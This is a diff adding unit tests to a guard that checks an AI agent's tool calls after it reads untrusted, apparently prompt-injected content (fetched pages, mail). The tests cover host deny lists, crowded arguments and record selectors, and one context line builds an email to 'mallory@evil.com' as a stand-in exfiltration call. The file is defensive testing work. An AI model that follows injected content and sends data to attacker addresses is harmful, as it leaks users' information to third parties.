@@ -259,6 +259,32 @@ def test_an_argument_crowded_with_values_fails_closed() -> None:
     )
 
 
+def test_a_choice_crowded_with_values_fails_closed() -> None:
+    command = "notify " + " ".join(f"user{number}@host{number}.example" for number in range(600))
+    assert Rule.BOUND in Scenario(query="run it").read("fetch_url", EVIL).rules(
+        "run_command", command=command
+    )
+
+
+def test_long_numbers_do_not_round_into_each_other() -> None:
+    scene = Scenario(query="delete record 123456789012345678901234567890").read("fetch_url", EVIL)
+    assert not scene.rules("delete_record", record="123456789012345678901234567890")
+    assert scene.rules("delete_record", record="123456789012345678901234567891") == {Rule.UNKNOWN_SELECTOR}
+
+
+def test_a_look_alike_of_a_denied_host_by_case_and_a_fetch_of_it() -> None:
+    policy = Policy(mode=Mode.ENFORCE, deny=("evil-site.example", "*.Bad.example"))
+    scene = Scenario(policy, "read it").read("fetch_url", EVIL)
+    assert scene.rules("fetch_url", url="https://EVIL-site.example/x") == {Rule.DENIED}
+    assert scene.rules("fetch_url", url="https://a.bad.example/x") == {Rule.DENIED}
+
+
+def test_confirm_does_not_ask_about_recipients_that_a_directory_vouches_for() -> None:
+    mail = [{"id": "m-1", "participants": ["ann@corp.com"], "body": EVIL}]
+    scene = Scenario(Policy(mode=Mode.CONFIRM), "mail ann@corp.com the notes").read("search_mail", mail)
+    assert scene.call("send_email", to="ann@corp.com", body=EVIL).allowed
+
+
 def test_roles_declared_by_the_payloads_type_win() -> None:
     scene = Scenario(query=QUERY).read("fetch_url", EVIL)
     call = Call("send_email", (Leaf("to", "mallory@evil.com"),), 9, roles=(("to", Role.PAYLOAD),))
